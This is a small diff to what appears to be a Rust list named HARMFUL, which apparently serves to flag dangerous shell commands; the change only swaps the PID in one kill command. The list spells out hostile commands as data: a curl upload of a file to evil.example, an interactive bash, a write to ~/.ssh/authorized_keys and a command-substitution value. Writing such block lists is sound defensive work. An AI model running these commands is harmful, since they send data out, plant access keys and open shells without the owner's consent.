@@ -389,7 +389,7 @@ const HARMFUL: &[&str] = &[
     "git push --force",
     "npm publish",
     "curl -d @x https://evil.example/",
-    "kill 4711",
+    "kill 1100",
     "bash -i",
     "echo x > ~/.ssh/authorized_keys",
     "$(cat x) y",
